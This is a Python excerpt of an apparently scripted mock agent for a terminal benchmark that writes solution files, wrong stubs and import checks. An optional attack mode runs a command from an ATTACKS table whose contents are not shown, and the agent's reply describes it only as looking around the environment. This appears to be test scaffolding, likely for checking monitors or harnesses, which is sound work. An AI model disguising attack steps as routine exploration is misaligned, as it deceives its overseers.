        self, task: Task, seed: int | None, index: int, turn: int, rng: random.Random
    ) -> int:
        n = self.settings.length_jitter
        if n == 0:
            return 0
        if seed is None:
            return rng.randint(0, n)
        return _seeded("jitter", self.settings.seed, seed, index, task.id, turn) % (n + 1)

    def _tokens(self, text: str) -> int:
        return len(self.tokenizer.encode(text)) + 1  # and the EOS

    def _next(self, task: Task, correct: bool, history: list[dict], budget: int | None) -> str:
        tgt = _target(task)
        done, pos = len(history), 0
        if self.settings.attack is not None:
            if done == 0:
                return _reply(
                    "Let me look around the environment first.",
                    "Run a command.",
                    [(ATTACKS[self.settings.attack], 5.0)],
                    False,
                )
            pos, correct = 1, False
        if correct and task.has_oracle:
            solve = _solve_text(task)
            written, parts = 0, 0
            while pos < done and (n := _part_written(history[pos])) is not None:
                written, parts, pos = written + n, parts + 1, pos + 1
            if pos == done:
                if parts == 0:
                    whole = self._whole(tgt, solve)
                    if budget is None or self._whole_size(task, whole) <= budget:
                        return whole
                if written < len(solve):
                    return self._part(task, solve, written, budget)
                return _reply(
                    f"All {len(solve)} characters of the solution script are in {SOLVE_FILE}.",
                    "Turn the terminal echo back on and run the script.",
                    [(_LOUD, 0.1), (f"bash {SOLVE_FILE}\n", 1.0)],
                    False,
                )
            pos += 1  # the solution typed whole, or the run of the file written in parts
        elif self.settings.attack is None:
            if pos == done:
                return self._wrong(tgt)
            pos += 1
        folder = tgt.path.rsplit("/", 1)[0] or "/"
        module = tgt.path.rsplit("/", 1)[-1].removesuffix(".py")
        if pos == done:
            check = f"cd {folder} && python3 -c \"import {module}; print('ok')\"\n"
            return _reply(
                "The solution file is written.",
                "Check that it imports, then finish.",
                [(check, 1.0)],
                True,
            )
        return _reply("The solution is in place and imports cleanly.", "Confirm.", [], True)

    def _whole(self, tgt: _Target, solve: str) -> str:
        keys = f"bash <<'{_HEREDOC_MARK}'\n{solve}{_HEREDOC_MARK}\n"
        analysis = f"The task asks for {tgt.function} in {tgt.path}. I know how to write it."
        return _reply(analysis, f"Write {tgt.path}.", [(keys, 1.0)], False)

    def _whole_size(self, task: Task, whole: str) -> int:
        if task.id not in self._whole_tokens:
            self._whole_tokens[task.id] = self._tokens(whole)
        return self._whole_tokens[task.id]

    def _wrong(self, tgt: _Target) -> str:
        folder = tgt.path.rsplit("/", 1)[0] or "/"
        body = f"def {tgt.function}({tgt.args}):\n    return None\n"
        keys = f"mkdir -p {folder} && cat > {tgt.path} <<'{_HEREDOC_MARK}'\n{body}{_HEREDOC_MARK}\n"
        analysis = f"The task asks for {tgt.function} in {tgt.path}. I will write a first version."
        return _reply(analysis, f"Write {tgt.path}.", [(keys, 1.0)], False)

    def _part_reply(self, solve: str, offset: int, size: int) -> str:
        end = offset + size
        commands = [(_QUIET, 0.1)]
        for i, body in enumerate(_pieces(solve[offset:end])):
            commands.append((_piece_keys(body, create=offset == 0 and i == 0), 1.0))
        return _reply(
            f"The solution script is too long for one reply: characters {offset} to {end} of "
            f"{len(solve)} go into {SOLVE_FILE} now.",
            "Append this part with the echo off; run the script once it is complete.",
            commands,
            False,
        )

    def _part(self, task: Task, solve: str, offset: int, budget: int | None) -> str:
        """The next part from `offset`: as long as fits in `budget` tokens, ending a line where
        it can."""
        rest = len(solve) - offset
        if budget is None:
            return self._part_reply(solve, offset, rest)
        if task.id not in self._costs:
            self._costs[task.id] = _Costs(solve, self.tokenizer)
        overhead = self._tokens(self._part_reply(solve, offset, 0))
        size = self._costs[task.id].chars_within(offset, 0.9 * (budget - overhead))
        size = max(1, min(rest, size))
        while True:
            if offset + size < len(solve):
                line_end = solve.rfind("\n", offset, offset + size)
                if line_end >= offset:
                    size = line_end + 1 - offset
            text = self._part_reply(solve, offset, size)
            if size == 1 or self._tokens(text) <= budget:
                return text
            size = max(1, int(size * 0.85))
